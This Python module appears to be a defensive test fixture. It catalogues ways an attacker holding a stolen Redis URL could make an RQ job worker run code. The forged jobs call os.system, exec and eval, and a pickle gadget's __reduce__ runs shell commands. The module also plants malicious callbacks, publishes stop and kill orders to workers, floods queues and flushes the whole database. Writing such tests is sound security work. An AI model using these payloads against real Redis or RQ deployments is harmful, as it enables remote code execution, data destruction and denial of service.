"""Hostile wake-ups: what somebody with a stolen REDIS_URL writes to make a worker run their code.

Each way gets the connection, the queue that a worker listens to, and a command that leaves a mark.
"""

import json
import os
import pickle
import time
import zlib
from collections.abc import Callable
from typing import Any

from redis import Redis

Way = Callable[["Redis", str, str], None]
OURS = "helpdesk.worker.run_due_jobs"
LONG_AGO = 1


class _Pickled:
    """What runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return os.system, (self.command,)


def _job(
    redis: "Redis",
    queue: str,
    call: list[Any],
    *,
    job_id: str = "hostile",
    push: bool = True,
    raw: bytes | None = None,
    **fields: Any,
) -> None:
    """A job as RQ stores one, in the queue or only beside it."""
    data = raw if raw is not None else zlib.compress(json.dumps(call).encode())
    stored: dict[Any, Any] = {
        "created_at": "2026-11-29T00:00:00.000000Z",
        "enqueued_at": "2026-11-29T00:00:00.000000Z",
        "origin": queue,
        "status": "queued",
        "data": data,
        "timeout": 60,
        "description": "look",
    } | fields
    redis.delete(f"rq:job:{job_id}")
    redis.hset(f"rq:job:{job_id}", mapping=stored)
    redis.sadd("rq:queues", f"rq:queue:{queue}")
    if push:
        redis.rpush(f"rq:queue:{queue}", job_id)


def _system(redis: "Redis", queue: str, command: str) -> None:
    _job(redis, queue, ["os.system", None, [command], {}])


def _subprocess(redis: "Redis", queue: str, command: str) -> None:
    _job(redis, queue, ["subprocess.call", None, [command], {"shell": True}])


def _keywords(redis: "Redis", queue: str, command: str) -> None:
    _job(redis, queue, ["os.system", None, [], {"command": command}])


def _builtin(redis: "Redis", queue: str, command: str) -> None:
    _job(redis, queue, ["builtins.exec", None, [f"import os; os.system({command!r})"], {}])


def _evaluated(redis: "Redis", queue: str, command: str) -> None:
    _job(redis, queue, ["builtins.eval", None, [f"__import__('os').system({command!r})"], {}])


def _by_our_name(redis: "Redis", queue: str, command: str) -> None:
    """Under the very id with which our own bell rings."""
    _job(redis, queue, ["os.system", None, [command], {}], job_id="look")


def _imported_through_us(redis: "Redis", queue: str, command: str) -> None:
    _job(redis, queue, ["helpdesk.worker.os.system", None, [command], {}])


def _on_an_instance(redis: "Redis", queue: str, command: str) -> None:
    instance = {"py/reduce": ["os.system", command]}
    _job(redis, queue, ["system", instance, [command], {}], instance="os")


def _pickled_data(redis: "Redis", queue: str, command: str) -> None:
    _job(redis, queue, [], raw=zlib.compress(pickle.dumps(_Pickled(command))), serializer="pickle")


def _pickled_without_zip(redis: "Redis", queue: str, command: str) -> None:
    _job(redis, queue, [], raw=pickle.dumps(_Pickled(command)))


def _pickled_beside(redis: "Redis", queue: str, command: str) -> None:
    hidden = pickle.dumps(_Pickled(command))
    _job(
        redis, queue, [OURS, None, [queue], {}], meta=hidden, result=hidden, exc_info=hidden,
        group_id=hidden,
    )  # fmt: skip


def _when_it_succeeds(redis: "Redis", queue: str, command: str) -> None:
    _job(
        redis, queue, [OURS, None, [queue], {}],
        success_callback_name="tests.faults.planted.anything", success_callback_timeout=60,
    )  # fmt: skip
    _job(
        redis, queue, ["os.getcwd", None, [], {}], job_id="succeeds",
        success_callback_name="antigravity.fly",
    )  # fmt: skip


def _when_it_fails(redis: "Redis", queue: str, command: str) -> None:
    _job(
        redis, queue, ["os.system", None, [command, command, command], {}], job_id="fails",
        failure_callback_name="os.system", failure_callback_timeout=60,
    )  # fmt: skip
    _job(redis, queue, ["os.system", None, [command], {}], job_id="fails-too", retries_left=5)


def _when_it_is_stopped(redis: "Redis", queue: str, command: str) -> None:
    _job(
        redis, queue, ["os.system", None, [f"{command}; sleep 5"], {}], job_id="stopped",
        stopped_callback_name="os.system", stopped_callback_timeout=60,
    )  # fmt: skip
    for worker in redis.smembers("rq:workers"):
        name = _name_in(worker)
        redis.publish(f"rq:pubsub:{name}", json.dumps({"command": "stop-job", "job_id": "stopped"}))


def _after_another(redis: "Redis", queue: str, command: str) -> None:
    _job(
        redis, queue, ["os.system", None, [command], {}], job_id="after", push=False,
        status="deferred", dependency_ids=json.dumps(["look"]), dependency_id="look",
    )  # fmt: skip
    for first in ("look", "first"):
        redis.sadd(f"rq:job:{first}:dependents", "after")
    redis.zadd(f"rq:deferred:{queue}", {"after": LONG_AGO})
    _job(redis, queue, [OURS, None, [queue], {}], job_id="first")


def _again_and_again(redis: "Redis", queue: str, command: str) -> None:
    _job(
        redis, queue, ["os.system", None, [command], {}], job_id="repeats",
        repeats_left=3, repeat_intervals=json.dumps([0, 0, 0]),
    )  # fmt: skip


def _at_a_time(redis: "Redis", queue: str, command: str) -> None:
    _job(
        redis, queue, ["os.system", None, [command], {}], job_id="later", push=False,
        status="scheduled",
    )  # fmt: skip
    redis.zadd(f"rq:scheduled:{queue}", {"later": LONG_AGO})


def _abandoned(redis: "Redis", queue: str, command: str) -> None:
    """In the registries whose remains a worker of RQ's own cleans up, running callbacks."""
    _job(
        redis, queue, ["os.system", None, [command], {}], job_id="abandoned", push=False,
        status="started", failure_callback_name="os.system", retries_left=3,
    )  # fmt: skip
    for registry in ("wip", "finished", "failed", "canceled", "ready"):
        redis.zadd(f"rq:{registry}:{queue}", {"abandoned": LONG_AGO, "abandoned:x": LONG_AGO})
    redis.hset("rq:execution:abandoned:x", mapping={"id": "x", "created_at": "1", "job": "os"})
    redis.rpush(f"rq:queue:{queue}:intermediate", "abandoned")


def _with_a_web_address(redis: "Redis", queue: str, command: str) -> None:
    """RQ would call an address of the attacker's choice from inside the house."""
    hooks = json.dumps([{"url": "http://127.0.0.1:9/", "events": ["finished", "failed"]}])
    _job(redis, queue, ["os.system", None, [command], {}], job_id="calls", webhooks=hooks)


def _of_another_class(redis: "Redis", queue: str, command: str) -> None:
    _job(
        redis, queue, ["os.system", None, [command], {}], job_id="other-class",
        job_class="subprocess.Popen", worker_name=command, queue_class="os.system",
    )  # fmt: skip


def _in_a_group(redis: "Redis", queue: str, command: str) -> None:
    _job(redis, queue, ["os.system", None, [command], {}], job_id="grouped", group_id="all")
    redis.sadd("rq:groups", "all")
    redis.sadd("rq:group:all", "grouped")


def _name_in(key: bytes | str) -> str:
    """The worker's name in a key of RQ's."""
    text = key.decode() if isinstance(key, bytes) else key
    return text.rpartition(":")[2]


def _commands(redis: "Redis", queue: str, command: str) -> None:
    """Orders that RQ's workers take from anybody who can publish."""
    names = {_name_in(one) for one in redis.smembers("rq:workers")}
    for name in names | {"worker", "*"}:
        for order in ("shutdown", "kill-horse", "stop-job", command):
            redis.publish(f"rq:pubsub:{name}", json.dumps({"command": order, "job_id": "look"}))
        redis.publish(f"rq:pubsub:{name}", pickle.dumps(_Pickled(command)))


def _suspended(redis: "Redis", queue: str, command: str) -> None:
    redis.set("rq:suspended", command)


def _strange_ids(redis: "Redis", queue: str, command: str) -> None:
    strange = ("", "\0", "look\0", "../look", "LOOK", "look look", "x" * 1_000_000, "ł" * 100)
    for one in (*strange, f"os.system('{command}')", pickle.dumps(_Pickled(command))):
        redis.rpush(f"rq:queue:{queue}", one)


def _other_queue(redis: "Redis", queue: str, command: str) -> None:
    """Our own function with an argument that is not its queue."""
    for name in ("", "../deliveries", "*", command, None, {"queue": queue}, [queue]):
        _job(redis, queue, [OURS, None, [name], {}], job_id=f"other-{type(name).__name__}")
    _job(redis, queue, [OURS, None, [queue, queue], {"at": "1970"}], job_id="more-arguments")


def _another_type(redis: "Redis", queue: str, command: str) -> None:
    """Where the list should be lies something that is no list."""
    redis.delete(f"rq:queue:{queue}")
    redis.hset(f"rq:queue:{queue}", mapping={"os.system": command})


def _flood(redis: "Redis", queue: str, command: str) -> None:
    many = [f"flood-{number}" for number in range(20_000)]
    redis.rpush(f"rq:queue:{queue}", *many)
    for number in range(200):
        redis.rpush(f"rq:queue:{number}", command)
        redis.sadd("rq:queues", f"rq:queue:{number}")


def _flushed(redis: "Redis", queue: str, command: str) -> None:
    redis.flushall()
    time.sleep(0.01)


WAYS: dict[str, Way] = {
    "os.system": _system,
    "subprocess": _subprocess,
    "keyword arguments": _keywords,
    "exec": _builtin,
    "eval": _evaluated,
    "under our own id": _by_our_name,
    "a module of ours": _imported_through_us,
    "a method of an instance": _on_an_instance,
    "a pickle as data": _pickled_data,
    "a pickle without zip": _pickled_without_zip,
    "pickles in other fields": _pickled_beside,
    "a callback of success": _when_it_succeeds,
    "a callback of failure": _when_it_fails,
    "a callback of stopping": _when_it_is_stopped,
    "a dependent job": _after_another,
    "a repeated job": _again_and_again,
    "a scheduled job": _at_a_time,
    "an abandoned job in registries": _abandoned,
    "a web address to call": _with_a_web_address,
    "another job class": _of_another_class,
    "a job in a group": _in_a_group,
    "commands to workers": _commands,
    "a suspension": _suspended,
    "strange ids": _strange_ids,
    "our function for another queue": _other_queue,
    "a key of another type": _another_type,
    "a flood": _flood,
    "everything flushed": _flushed,
}
